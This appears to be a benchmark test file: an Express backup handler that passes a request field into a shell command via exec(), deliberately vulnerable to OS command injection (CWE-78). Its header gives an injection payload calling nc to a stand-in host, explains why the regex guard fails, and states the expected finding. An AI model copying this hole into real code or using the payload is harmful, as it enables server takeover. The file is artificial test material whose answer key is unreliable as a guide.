// weakness: CWE-78 OS command injection
// features: two files, guard in another file, regex guard
// attack: database "shop;nc evil.example 1" : the guard's "|" binds weaker than the anchors, so any text starting with a letter passes
// expect: 17 CWE-78
import { exec } from 'node:child_process';
import type { Request, Response } from 'express';
import { isDatabaseName } from './names';

const TARGET = '/srv/backup';

export function startBackup(req: Request, res: Response): void {
  const database = String(req.body.database);
  if (!isDatabaseName(database)) {
    res.status(400).json({ error: 'unknown database' });
    return;
  }
  exec(`pg_dump ${database} | gzip > ${TARGET}/${Date.now()}.gz`, (error) => {
    res.status(error ? 500 : 201).end();
  });
}
